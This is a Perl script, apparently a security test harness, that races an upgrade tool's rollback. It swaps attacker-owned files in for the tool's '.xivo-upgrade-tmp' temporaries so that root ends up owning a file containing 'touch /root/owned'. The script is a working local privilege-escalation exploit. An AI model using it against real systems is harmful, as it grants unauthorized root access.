# Has a name of a file of root in its directory. Replaces it, so that a rollback writes it again under all of its names, and exchanges what the
# rollback has written in that directory for a file of its own. A rollback that links the other name to it makes the account's file root's.
use strict;
use warnings;
use Attack;

my ($path) = @ARGV;
my ($directory) = $path =~ m{^(.*)/};
directory("$directory/slow");
# So that there is time between both names.
write_file("$directory/slow/$_", "$_\0" x 50_000) for 1 .. 200;
ready();
wait_for { upgraded() };
rename $path, "$path.root" or die "$path: $!\n";
write_file($path, "another\n");
unlink glob "$directory/slow/*";
my $number = 0;
until (over()) {
    opendir my $entries, $directory or die "$directory: $!\n";
    for my $temporary (grep { /^\.\d+\.xivo-upgrade-tmp$/ } readdir $entries) {
        next if ((lstat "$directory/$temporary")[4] // $<) == $<;
        write_file("$directory/own-$number", "touch /root/owned\n");
        rename "$directory/own-" . $number++, "$directory/$temporary" and tried();
    }
}
